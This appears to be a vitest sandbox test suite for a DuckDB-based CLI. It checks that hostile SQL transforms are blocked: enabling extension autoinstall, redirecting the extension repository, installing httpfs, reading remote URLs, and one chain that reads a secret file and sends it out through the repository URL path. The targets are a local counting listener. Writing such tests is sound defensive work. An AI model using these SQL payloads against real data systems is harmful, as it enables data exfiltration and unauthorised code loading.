import { promises as fsp } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectFailedWithE070, expectHelloMeshPublished, expectNothingOutside, QUERY_REFUSED } from './expectations.ts';
import { addAttackProduct, makeArena, sqlString, type Arena } from './hostileMesh.ts';
import {
  ENGINES,
  cliSubprocess,
  countingListener,
  observe,
  runReport,
  type Listener,
  type Observed,
  type RunReport,
  type SubprocessResult,
} from './probes.ts';

/*
 * Attack class "network": a transform switches extension autoinstall back on, points the
 * extension repository at a URL (built from a file's content, so the request path carries
 * it), installs or loads httpfs, or reads a URL. The URLs lead to a listener on 127.0.0.1 in
 * this process that counts connections; the CLI runs as a subprocess (bin/quanta.mjs, worker
 * threads) with HOME in the arena, where DuckDB would write `.duckdb/extensions`. Only a
 * subprocess: in this process a blocking request to our own listener could never be answered.
 */
const NETWORK: Record<string, (arena: Arena, base: string) => string> = {
  'autoinstall-on': () => `SET autoinstall_known_extensions = true;\nSET autoload_known_extensions = true;\nSELECT 'ok' AS v`,
  'repository-to-listener': (_a, base) => `SET custom_extension_repository = '${base}/repo';\nINSTALL httpfs;\nSELECT 'ok' AS v`,
  'repository-from-secret': (a, base) =>
    [
      `SET VARIABLE stolen = (SELECT trim(content) FROM read_text(${sqlString(a.secret)}));`,
      `SET custom_extension_repository = '${base}/' || getvariable('stolen');`,
      'SET autoinstall_known_extensions = true;',
      'SET autoload_known_extensions = true;',
      `SELECT (SELECT count(*)::VARCHAR FROM read_parquet('${base}/x.parquet')) AS v`,
    ].join('\n'),
  'install-httpfs': () => `INSTALL httpfs;\nSELECT 'ok' AS v`,
  'install-from-listener': (_a, base) => `INSTALL httpfs FROM '${base}';\nSELECT 'ok' AS v`,
  'force-install-from-listener': (_a, base) => `FORCE INSTALL json FROM '${base}';\nSELECT 'ok' AS v`,
  'load-httpfs': () => `LOAD httpfs;\nSELECT 'ok' AS v`,
  'read-csv-url': (_a, base) => `SELECT (SELECT count(*)::VARCHAR FROM read_csv('${base}/x.csv')) AS v`,
  'attach-url': (_a, base) => `ATTACH '${base}/x.duckdb' AS remote;\nSELECT 'ok' AS v`,
};

describe.each(ENGINES)('a hostile mesh that reaches the network (bin/quanta.mjs, HOME isolated) (%s engine)', (engine) => {
  let arena: Arena;
  let listener: Listener;
  let run: Observed<SubprocessResult>;
  let report: RunReport;

  beforeAll(async () => {
    arena = await makeArena('network');
    listener = await countingListener();
    const base = `http://127.0.0.1:${listener.port}`;
    // A long simulation.timeout: a request that hangs shows as this suite's bound, not the runtime's.
    for (const [id, sql] of Object.entries(NETWORK)) await addAttackProduct(arena, { id, sql: sql(arena, base), timeout: '300s' });
    run = await observe(arena, () => cliSubprocess(arena, ['run', '.', '--json', '--pool', '2'], 90_000, engine));
    report = runReport(run.result);
  }, 120_000);
  afterAll(async () => {
    await listener?.close();
  });

  it('finishes by itself (killed after 90 s would mean a request hung)', () => {
    expect(run.result.hung).toBe(false);
  });

  it.each(Object.keys(NETWORK))('fails the transform %s with QUANTA_E070 and the sandbox denial; it publishes nothing', (id) => {
    expectFailedWithE070(report, [id]);
  });

  it('makes no connection to the listener', () => {
    expect(listener.requests, 'requests that reached the listener').toEqual([]);
    expect(listener.connections()).toBe(0);
  });

  it('writes nothing into HOME (no .duckdb/extensions) or anywhere outside the mesh, prints no secret, exits 1', async () => {
    expect(await fsp.readdir(arena.home)).toEqual([]);
    expectNothingOutside(arena, run);
    expectHelloMeshPublished(report);
    expect(run.result.code).toBe(1);
  });

  it('refuses a console query of a URL: exit 1, no connection', async () => {
    const before = listener.connections();
    const observed = await observe(arena, () =>
      cliSubprocess(arena, ['query', '.', `SELECT * FROM read_csv('http://127.0.0.1:${listener.port}/query.csv')`], 90_000, engine),
    );
    expect(observed.result.hung).toBe(false);
    expect(observed.result.code).toBe(1);
    expect(observed.result.err).toMatch(QUERY_REFUSED);
    expect(listener.connections() - before).toBe(0);
    expect(await fsp.readdir(arena.home)).toEqual([]);
  }, 120_000);
});
